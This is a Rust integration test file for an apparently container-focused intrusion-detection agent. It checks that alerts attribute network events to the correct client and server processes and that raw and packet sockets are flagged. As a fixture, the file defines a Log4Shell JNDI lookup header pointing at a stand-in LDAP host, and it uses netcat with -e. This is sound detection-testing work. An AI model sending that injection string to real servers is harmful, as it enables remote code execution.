//! Which process is at each end of an alert. The ground truth is what `/proc` shows the test.

use std::{fs, time::Duration};

use anyhow::{Context as _, Result, ensure};
use hydrophone_tests::{Agent, Container, Engine, Event, Options, wait_for};
use serde_json::json;

/// Starter rule "Log4Shell lookup with a remote protocol".
const LOG4SHELL: u64 = 7_000_002;
const HEADER: &str = "X-Api-Version: ${jndi:ldap://198.18.0.9:1389/a}";

/// A process of a container, as `/proc` shows it to the test.
#[derive(Debug)]
struct Seen {
    pid: u64,
    own_pid: u64,
    parent: u64,
}

/// The processes of a container whose command line begins with `command`, the oldest first.
fn processes(container: &Container<'_>, command: &str) -> Result<Vec<Seen>> {
    let mut seen = Vec::new();
    for entry in fs::read_dir("/proc")? {
        let folder = entry?.path();
        let read = |name: &str| fs::read(folder.join(name)).unwrap_or_default();
        let cgroup = String::from_utf8_lossy(&read("cgroup")).into_owned();
        let line = String::from_utf8_lossy(&read("cmdline")).replace('\0', " ");
        if !cgroup.contains(container.id()) || !line.starts_with(command) {
            continue;
        }
        let status = String::from_utf8_lossy(&read("status")).into_owned();
        let field = |name: &str| -> Result<Vec<u64>> {
            let line = status.lines().find_map(|line| line.strip_prefix(name));
            let words = line.context("a process went")?.split_whitespace();
            Ok(words.map(str::parse).collect::<Result<_, _>>()?)
        };
        let pids = field("NSpid:")?;
        seen.push(Seen {
            pid: pids.first().copied().unwrap_or_default(),
            own_pid: pids.last().copied().unwrap_or_default(),
            parent: field("PPid:")?.first().copied().unwrap_or_default(),
        });
    }
    seen.sort_by_key(|process| process.pid);
    Ok(seen)
}

fn the_process(container: &Container<'_>, command: &str) -> Result<Seen> {
    wait_for(command, Duration::from_secs(10), || {
        let mut seen = processes(container, command)?;
        Ok((seen.len() == 1).then(|| seen.remove(0)))
    })
}

fn exploit(agent: &Agent, from: &str, to: &str) -> Result<Event> {
    agent.wait_for(&format!("the exploit from {from} to {to}"), |event| {
        event.is_between(from, to) && event.sid() == LOG4SHELL
    })
}

/// Asks, and stays there for the test to look at.
const PATIENT_CLIENT: &str = "
import socket, sys, time
client = socket.create_connection((sys.argv[1], 80))
client.sendall(('GET /hostname HTTP/1.0\\r\\n' + sys.argv[2] + '\\r\\n\\r\\n').encode())
client.recv(65536)
time.sleep(60)
";

#[test]
fn both_ends_have_their_process() -> Result<()> {
    let engine = Engine::start()?;
    // It listened before the agent.
    let web = engine.run_web("web")?;
    let client = engine.run_idle("client", &["--user=33"])?;
    let agent = Agent::start(&Options::new(&engine))?;

    let shell = ["busybox", "sh", "-c", "python3 -c \"$0\" \"$1\" \"$2\"; :"];
    let client_of = [PATIENT_CLIENT, web.ipv4(), HEADER];
    let mut running = client.spawn(&[&shell[..], &client_of].concat())?;
    let alert = exploit(&agent, "client", "web")?;

    let truth = the_process(&client, "python3 -c")?;
    let shell = the_process(&client, "busybox sh -c")?;
    assert_eq!(truth.parent, shell.pid);
    assert_eq!(alert.number("/src_process/pid"), truth.pid, "{alert}");
    assert_eq!(alert.number("/src_process/container_pid"), truth.own_pid);
    assert_eq!(alert.number("/src_process/uid"), 33);
    let executable = fs::read_link(format!("/proc/{}/exe", truth.pid))?;
    assert_eq!(
        alert.text("/src_process/executable"),
        executable.to_string_lossy()
    );
    assert!(
        alert
            .text("/src_process/command_line")
            .starts_with("python3 -c "),
        "{alert}"
    );
    assert_eq!(alert.number("/src_process/parents/0/pid"), shell.pid);
    assert_eq!(alert.text("/src_process/parents/0/comm"), "busybox");
    assert_eq!(alert.at("/src_process/parents/1"), &serde_json::Value::Null);
    assert_eq!(alert.text("/src_process/certainty"), "certain", "{alert}");

    let truth = the_process(&web, "busybox httpd")?;
    assert_eq!(alert.number("/dst_process/pid"), truth.pid, "{alert}");
    assert_eq!(alert.number("/dst_process/container_pid"), truth.own_pid);
    assert_eq!(alert.text("/dst_process/certainty"), "certain", "{alert}");
    running.kill()?;
    running.wait()?;
    agent.stop()?;
    Ok(())
}

#[test]
fn no_short_client_is_taken_for_another() -> Result<()> {
    const CLIENTS: u32 = 200;
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let client = engine.run_idle("client", &[])?;
    let mut options = Options::new(&engine);
    options.config["alert"]["storm"] = json!({ "limit": 0 });
    let agent = Agent::start(&options)?;

    // Each is a process of its own, and says in its request which one.
    let line = format!(
        "n=0; while [ $n -lt {CLIENTS} ]; do busybox wget -q -O /dev/null --header \"$0\" \
         http://{}/hostname?n=$n; n=$((n+1)); done; :",
        web.ipv4()
    );
    client.exec(&["busybox", "sh", "-c", &line, HEADER])?;
    agent.settle()?;
    let alerts = agent.alerts_of(&["client"]);
    assert_eq!(alerts.len(), usize::try_from(CLIENTS)?);
    let mut certain = 0;
    for alert in &alerts {
        let line = alert.text("/src_process/command_line");
        if alert.text("/src_process/certainty") == "certain" {
            certain += 1;
            ensure!(line.ends_with(alert.text("/http/url")), "{alert}");
        } else {
            let named = line.is_empty() || line.ends_with(alert.text("/http/url"));
            ensure!(named, "{alert}");
            assert_eq!(alert.text("/src_process/reason"), "exited", "{alert}");
        }
        assert_eq!(alert.text("/src_process/comm"), "busybox", "{alert}");
    }
    eprintln!("{certain} of {CLIENTS} clients are known");
    ensure!(certain > 0, "not one was looked at in time");
    agent.stop()?;
    Ok(())
}

/// Gives itself the name of a kernel thread (`PR_SET_NAME` is 15).
const RENAMED_CLIENT: &str = "
import ctypes, socket, sys, time
ctypes.CDLL(None).prctl(15, b'kworker/0:1')
client = socket.create_connection((sys.argv[1], 80))
client.sendall(('GET /hostname HTTP/1.0\\r\\n' + sys.argv[2] + '\\r\\n\\r\\n').encode())
client.recv(65536)
";

#[test]
fn a_process_that_renames_itself_is_unsure() -> Result<()> {
    let engine = Engine::start()?;
    let web = engine.run_web("web")?;
    let client = engine.run_idle("client", &[])?;
    let agent = Agent::start(&Options::new(&engine))?;

    client.exec(&["python3", "-c", RENAMED_CLIENT, web.ipv4(), HEADER])?;
    let alert = exploit(&agent, "client", "web")?;
    assert_eq!(alert.text("/src_process/comm"), "kworker/0:1", "{alert}");
    assert_eq!(alert.text("/src_process/certainty"), "unsure", "{alert}");
    assert_eq!(alert.text("/src_process/reason"), "renamed", "{alert}");
    ensure!(
        alert.text("/src_process/executable").contains("/python3"),
        "the executable cannot be renamed: {alert}"
    );
    agent.stop()?;
    Ok(())
}

/// Four workers that accept from one socket.
const FORKED_SERVER: &str = "
import os, socket
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(('0.0.0.0', 8080))
server.listen(64)
for _ in range(3):
    if os.fork() == 0:
        break
while True:
    client, _ = server.accept()
    client.recv(65536)
    client.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\n' + str(os.getpid()).encode())
    client.recv(65536)
    client.close()
";

/// Asks, tells who answered, and keeps the connection.
const KEEPING_CLIENT: &str = "
import socket, sys, time
client = socket.create_connection((sys.argv[1], 8080))
client.sendall(('GET / HTTP/1.0\\r\\n' + sys.argv[2] + '\\r\\n\\r\\n').encode())
print(client.recv(65536).split(b'\\r\\n\\r\\n')[1].decode(), flush=True)
time.sleep(int(sys.argv[3]))
";

#[test]
fn of_several_workers_the_one_that_has_the_connection_is_named_or_all() -> Result<()> {
    let engine = Engine::start()?;
    let agent = Agent::start(&Options::new(&engine))?;
    let server = engine.run("server", &[], &["python3", "-c", FORKED_SERVER])?;
    server.wait_until_listening(8080)?;
    let client = engine.run_idle("client", &[])?;

    let keep = ["python3", "-c", KEEPING_CLIENT, server.ipv4(), HEADER];
    let mut running = client.spawn(&[&keep[..], &["60"]].concat())?;
    let alert = exploit(&agent, "client", "server")?;
    let workers = processes(&server, "python3 -c")?;
    assert_eq!(workers.len(), 4);
    let named = alert.number("/dst_process/pid");
    ensure!(workers.iter().any(|it| it.pid == named), "{alert}");
    if alert.text("/dst_process/certainty") == "certain" {
        let holds = |worker: &&Seen| {
            let fds = fs::read_dir(format!("/proc/{}/fd", worker.pid));
            let sockets = fds.into_iter().flatten().flatten().filter(|fd| {
                fs::read_link(fd.path())
                    .is_ok_and(|target| target.to_string_lossy().starts_with("socket:"))
            });
            sockets.count() == 2
        };
        let truth: Vec<_> = workers.iter().filter(holds).map(|it| it.pid).collect();
        assert_eq!(truth, [named], "{alert}");
    } else {
        assert_eq!(
            alert.text("/dst_process/reason"),
            "shared_socket",
            "{alert}"
        );
        let others = alert.at("/dst_process/candidates").as_array();
        assert_eq!(others.map(Vec::len), Some(3), "{alert}");
    }
    running.kill()?;
    running.wait()?;
    agent.stop()?;
    Ok(())
}

#[test]
fn a_server_that_has_gone_is_who_bound_the_port() -> Result<()> {
    let engine = Engine::start()?;
    let agent = Agent::start(&Options::new(&engine))?;
    let server = engine.run_idle("server", &[])?;
    let client = engine.run_idle("client", &[])?;

    // It answers once and ends, and so does its container's socket.
    let mut serving =
        server.spawn(&["busybox", "nc", "-l", "-p", "8080", "-e", "busybox", "true"])?;
    server.wait_until_listening(8080)?;
    let truth = the_process(&server, "busybox nc")?;
    let line = format!(
        "printf 'GET / HTTP/1.0\\r\\n{HEADER}\\r\\n\\r\\n' | busybox nc {} 8080",
        server.ipv4()
    );
    let _ = client.shell(&line);
    serving.wait()?;
    let alert = exploit(&agent, "client", "server")?;
    assert_eq!(alert.number("/dst_process/pid"), truth.pid, "{alert}");
    assert_eq!(alert.text("/dst_process/comm"), "busybox", "{alert}");
    agent.stop()?;
    Ok(())
}

/// "Raw socket opened by a container" and "Packet socket opened by a container".
const RAW_SOCKET: u64 = 31;
const PACKET_SOCKET: u64 = 32;

#[test]
fn raw_and_packet_sockets_are_told_but_for_ping() -> Result<()> {
    let engine = Engine::start()?;
    let target = engine.run_idle("target", &[])?;
    let pinger = engine.run_idle("pinger", &[])?;
    let allowed = engine.run_idle("allowed", &[])?;
    let scanner = engine.run_idle("scanner", &[])?;
    let sniffer = engine.run_idle("sniffer", &[])?;
    let mut options = Options::new(&engine);
    options.config["local"] = json!({ "raw_allow": ["name:allowed"] });
    let agent = Agent::start(&options)?;

    pinger.exec(&["busybox", "ping", "-c", "1", target.ipv4()])?;
    let raw = "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)";
    allowed.exec(&["python3", "-c", raw])?;
    // One that is gone at once.
    scanner.exec(&["python3", "-c", raw])?;
    let alert = agent.wait_for("a raw socket", |event| {
        event.is_alert() && event.sid() == RAW_SOCKET
    })?;
    assert_eq!(alert.source(), "scanner", "{alert}");
    assert_eq!(alert.text("/src_container/id"), scanner.id());
    assert_eq!(alert.text("/raw_socket/family"), "ipv4");
    assert_eq!(alert.number("/raw_socket/protocol"), 255);
    assert_eq!(alert.text("/raw_socket/seen"), "call");
    assert_eq!(
        alert.text("/src_process/command_line"),
        format!("python3 -c {raw}"),
        "{alert}"
    );

    let mut dump = sniffer.spawn(&["tcpdump", "-Z", "root", "-n", "-i", "eth0"])?;
    let truth = the_process(&sniffer, "tcpdump")?;
    let alert = agent.wait_for("a packet socket", |event| {
        event.is_alert() && event.sid() == PACKET_SOCKET
    })?;
    assert_eq!(alert.source(), "sniffer", "{alert}");
    assert_eq!(alert.text("/raw_socket/family"), "packet");
    assert_eq!(alert.number("/src_process/pid"), truth.pid, "{alert}");
    assert_eq!(alert.number("/src_process/container_pid"), truth.own_pid);
    dump.kill()?;
    dump.wait()?;
    agent.settle()?;
    assert_eq!(agent.alerts_of(&["pinger", "allowed"]), []);
    assert_eq!(agent.alerts_of(&["sniffer"]).len(), 1);
    assert_eq!(agent.alerts_of(&["scanner"]).len(), 1);
    agent.stop()?;
    Ok(())
}
